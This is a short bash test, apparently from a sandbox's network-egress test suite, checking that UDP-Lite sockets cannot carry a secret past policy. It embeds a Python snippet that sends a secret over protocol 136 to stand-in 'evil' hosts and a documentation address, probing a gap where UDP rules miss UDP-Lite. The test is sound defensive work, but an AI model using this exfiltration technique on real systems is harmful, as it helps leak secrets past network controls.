# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# UDP-Lite has ports, but passes none of the hooks that judge UDP's destinations.

test_udplite_carries_nothing_out() {
	attack <<-'END'
	import socket, sys
	import job
	host = sys.argv[1]
	sock = job.open_socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM, 136)
	sock.sendto(job.SECRET, (host, 9999))
	END
	local host
	policy_feed
	for host in $EVIL4 $EVIL6; do
		new_secret
		verdict socket-type "${ATTACK[@]}" $host
	done
	# A rule for UDP is none for UDP-Lite.
	new_secret
	guarded -- "${ATTACK[@]}" 198.51.100.70
	status_is_not 0
	nothing_arrived "$SECRET"
}
